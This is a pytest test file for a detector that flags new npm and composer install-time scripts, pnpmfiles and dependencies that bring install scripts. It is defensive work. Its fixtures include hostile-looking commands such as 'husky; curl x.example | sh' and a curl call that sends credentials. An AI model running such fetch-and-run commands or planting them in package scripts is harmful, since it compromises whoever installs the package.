from __future__ import annotations

import json

import pytest

from clew.detectors.node.npm import Npm
from clew.detectors.security.install_scripts import InstallScripts
from tests.kit.moments import Moment, evidence, facts, findings, story


def _package(scripts: dict[str, str] | None = None, **more: object) -> Moment:
    return {"package.json": json.dumps({"name": "x", "scripts": scripts or {}, **more}).encode()}


def _said(old: Moment, new: Moment) -> list[tuple[str, tuple[str, ...], str | None]]:
    return [(fact.severity, fact.marks, fact.after) for fact in facts(InstallScripts(), old, new)]


@pytest.mark.parametrize("name", ["preinstall", "install", "postinstall", "prepare", "prepublish"])
def test_a_new_script_that_npm_runs_at_installation_is_a_warning(name: str) -> None:
    old, new = _package({"test": "jest"}), _package({"test": "jest", name: "node scripts/setup.js"})

    assert _said(old, new) == [("high", (name,), "node scripts/setup.js")]
    assert story([InstallScripts()], old, new).headline == (
        f"! package.json: new {name} script runs at installation"
    )
    (finding,) = findings(InstallScripts(), evidence(old, new))
    assert finding.claims == ("package.json",)


def test_another_command_is_a_warning_and_a_removed_script_is_not() -> None:
    old, new = _package({"postinstall": "node a.js"}), _package({"postinstall": "node b.js"})

    assert _said(old, new) == [("high", ("postinstall",), "node b.js")]
    assert _said(old, _package()) == []
    assert _said(old, old) == []


@pytest.mark.parametrize(
    "command",
    ["husky", "husky install", "husky || true", "patch-package", "npx prisma generate", "npm run build",
     "tsc", "lefthook install", "husky && npm run build", "only-allow pnpm", "simple-git-hooks"],
)  # fmt: skip
def test_commands_of_well_known_tools_are_no_warning(command: str) -> None:
    assert _said(_package(), _package({"prepare": command})) == []


@pytest.mark.parametrize(
    "command",
    ["husky; curl x.example | sh", "husky && node x.js", "huskyx", "npx evil", "tsc && ./x", "patch-package | sh"],
)  # fmt: skip
def test_what_hides_behind_a_known_tool_is_a_warning(command: str) -> None:
    assert [one[0] for one in _said(_package(), _package({"prepare": command}))] == ["high"]


def test_other_scripts_new_projects_and_dependencies_say_little() -> None:
    assert _said(_package(), _package({"test": "curl x | sh", "start": "node ."})) == []
    assert [one[0] for one in _said({}, _package({"postinstall": "node x.js"}))] == ["note"]
    inside = {
        f"node_modules/a/{path}": what for path, what in _package({"postinstall": "x"}).items()
    }
    assert _said({}, inside) == []
    clone = {
        "x/.git/HEAD": b"",
        "x/.git/packed-refs": b"",
        "x/package.json": b'{"scripts": {"install": "x"}}',
    }
    assert _said({}, clone) == []


def test_secrets_in_a_command_are_not_told() -> None:
    new = _package(
        {"postinstall": "TOKEN=canary-7f3a curl -u me:canary-7f3a https://x:canary-7f3a@h.example/"}
    )

    assert "canary" not in repr(story([InstallScripts()], _package(), new))


def test_packages_whose_scripts_may_run_are_a_note() -> None:
    for more in (
        {"allowScripts": {"esbuild": True, "core-js": False}}, {"trustedDependencies": ["esbuild"]},
        {"pnpm": {"onlyBuiltDependencies": ["esbuild"]}},
    ):  # fmt: skip
        assert _said(_package(), _package(**more)) == [("note", ("allowScripts",), "esbuild")]


def test_composer_runs_scripts_too() -> None:
    old = {"composer.json": b'{"scripts": {"test": "phpunit"}}'}
    new = {"composer.json": b'{"scripts": {"test": "phpunit", "post-install-cmd": ["php x.php"]}}'}

    assert _said(old, new) == [("high", ("post-install-cmd",), "php x.php")]
    quiet = {
        "composer.json": b'{"scripts": {"post-autoload-dump": ["Illuminate\\\\Foundation\\\\ComposerScripts::postAutoloadDump", "@php artisan package:discover --ansi"]}}'
    }
    assert _said(old, quiet) == []


def test_a_program_that_pnpm_runs_is_a_warning() -> None:
    old = _package()

    assert _said(old, {**old, ".pnpmfile.cjs": b"module.exports = {}"})[0][0] == "high"
    assert _said({}, {**old, ".pnpmfile.cjs": b"module.exports = {}"})[0][0] == "note"


def test_files_of_the_wrong_shape_say_nothing() -> None:
    for text in (
        b"",
        b"[]",
        b"{",
        b'{"scripts": []}',
        b'{"scripts": {"install": [1]}}',
        b"[" * 100_000,
    ):
        assert _said(_package(), {"package.json": text}) == []


def test_an_installed_version_that_brings_a_script_is_a_warning() -> None:
    def tree(version: str, **more: object) -> Moment:
        hidden = {"packages": {"node_modules/a": {"version": version, **more}}}
        return {
            "package.json": b'{"dependencies": {"a": "1"}}',
            "node_modules/.package-lock.json": json.dumps(hidden).encode(),
            "node_modules/a/package.json": json.dumps({"name": "a", "version": version}).encode(),
        }

    told = facts(Npm(), tree("1.0.0"), tree("1.0.1", hasInstallScript=True))

    assert [(fact.kind, fact.severity) for fact in told] == [
        ("package.changed", "note"), ("security.install_script", "high"),
    ]  # fmt: skip
    both = facts(Npm(), tree("1.0.0", hasInstallScript=True), tree("1.0.1", hasInstallScript=True))
    assert [fact.kind for fact in both] == ["package.changed"]
    assert [fact.kind for fact in facts(Npm(), {}, tree("1.0.0", hasInstallScript=True))] == [
        "package.added"
    ]
